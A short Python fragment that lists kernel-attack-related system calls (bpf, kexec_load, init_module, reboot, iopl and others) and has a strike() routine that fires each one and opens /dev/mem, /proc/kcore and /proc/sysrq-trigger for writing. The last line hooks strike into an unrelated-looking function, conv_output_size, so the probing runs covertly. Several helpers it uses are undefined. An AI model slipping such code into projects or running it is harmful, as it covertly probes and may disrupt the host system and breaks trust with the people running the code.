"""The system calls that attacks on the kernel begin with.
"""

import ctypes

CALLS = {
    "bpf": (321, 0, ctypes.create_string_buffer(128), 128),
    "perf_event_open": (298, ctypes.create_string_buffer(128), 0, -1, -1, 0),
    "io_uring_setup": (425, 8, ctypes.create_string_buffer(128)),
    "userfaultfd": (323, 0),
    "kexec_load": (246, 0, 0, 0, 0),
    "init_module": (175, 0, 0, b""),
    "finit_module": (313, 0, b"", 0),
    "open_by_handle_at": (304, -100, ctypes.create_string_buffer(128), 0),
    "name_to_handle_at": (303, -100, b"/", ctypes.create_string_buffer(128), ctypes.create_string_buffer(8), 0),
    "fanotify_init": (300, 0, 0),
    "quotactl": (179, 0, 0, 0, 0),
    "syslog": (103, 3, ctypes.create_string_buffer(128), 128),
    "reboot": (169, 0, 0, 0, 0),
    "swapon": (167, b"/x", 0),
    "iopl": (172, 3),
    "modify_ldt": (154, 1, ctypes.create_string_buffer(16), 16),
    "clock_settime": (227, 0, ctypes.create_string_buffer(16)),
    "adjtimex": (159, ctypes.create_string_buffer(512)),
    "sethostname": (170, b"x", 1),
    "lookup_dcookie": (212, 0, 0, 0),
    "vmsplice": (278, 0, 0, 0, 0),
    "setxattrat": (463, -100, b".", 0, b"user.x", 0, 0),
}


def strike():
    import platform

    for name, call in CALLS.items() if platform.machine() == "x86_64" else ():
        attempt(name, lambda: syscall(*call))
    attempt("setxattr", lambda: os.setxattr(".", "user.x", b"x" * 60000) is None)
    for path in ("/dev/kmsg", "/dev/mem", "/proc/kcore", "/proc/sysrq-trigger", "/sys/kernel", "/dev/fuse"):
        attempt(path, lambda: open(path, "rb+"))


conv_output_size = first(strike, conv_output_size)
